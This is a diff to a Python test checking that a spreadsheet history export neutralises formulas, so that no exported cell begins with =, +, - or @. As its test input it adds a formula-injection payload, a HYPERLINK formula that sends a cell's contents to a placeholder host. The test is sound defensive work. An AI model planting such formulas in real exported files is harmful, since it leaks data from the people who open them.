@@ -145,11 +145,16 @@ def test_draft_is_marked_and_reloaded_after_an_edit(team: Team) -> None:
 
 
 def test_history_export_neutralises_formulas(team: Team) -> None:
-    data = history_xlsx(history(team.ws, team.draft), "zh")
+    ws = team.ws
+    draft = drafts.start_draft(ws, "eve", 1, "公式草案")  # its own draft: independent of the other tests' edits
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+    edit_ops.add_detail(ws, "eve", draft, area_id="sihong", industry_id="pv", subindustry_id="", kind="firm",
+                        text=formula, line=800, reason="+招商")  # fmt: skip
+    data = history_xlsx(history(ws, draft), "zh")
     sheet = openpyxl.load_workbook(io.BytesIO(data)).active
     cells = [c.value for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
     assert cells and not any(v.startswith(("=", "+", "-", "@")) for v in cells)
-    assert any("示例龙头企业" in v for v in cells)
+    assert any(formula in v for v in cells) and any("招商" in v for v in cells)
 
 
 def test_publish_needs_admin_and_freezes_the_draft(team: Team) -> None:
